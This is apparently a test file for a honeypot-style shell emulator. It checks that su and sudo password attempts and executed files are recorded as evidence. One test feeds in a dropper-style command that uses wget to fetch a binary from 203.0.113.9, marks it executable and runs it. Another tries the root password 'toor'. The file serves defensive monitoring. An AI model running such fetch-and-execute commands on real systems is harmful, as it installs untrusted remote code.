import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Account } from './accounts.ts'
import { runLine, testComputer, testPersona } from './testing.ts'

const [, person] = testPersona.users
const account: Account = { ...person!, gid: person!.uid, comment: '' }

test('passwords tried with su and sudo are evidence, wrong ones and right ones', async () => {
  const computer = testComputer()
  const logins = async (line: string, stdin: string) =>
    (await runLine(line, { computer, account, stdin })).seen
      .filter(({ what }) => what === 'login')
      .map(one => one.details)
  assert.deepEqual(await logins('su', 'toor\n'), [{ method: 'su', user: 'root', password: 'toor', good: false }])
  assert.deepEqual(await logins('su - nosuch', 'x\n'), [])
  await runLine(`echo '${account.name}:right' | chpasswd`, { computer })
  assert.deepEqual(await logins('sudo -S id', 'wrong\nright\n'), [
    { method: 'sudo', user: account.name, password: 'wrong', good: false },
    { method: 'sudo', user: account.name, password: 'right', good: true },
  ])
})

test('what our own network served is run as ours, and what they made as theirs', async () => {
  const { seen } = await runLine(
    'cd /tmp; wget -q http://203.0.113.9/bins/x86; chmod +x x86; ./x86; echo "echo hi" > y; chmod +x y; ./y',
  )
  const runs = seen
    .filter(({ what }) => what === 'execution')
    .map(({ details }) => details as { path: string; served?: true })
  assert.deepEqual(
    runs.map(({ path, served }) => [path, served]),
    [
      ['/tmp/x86', true],
      ['/tmp/y', undefined],
    ],
  )
})
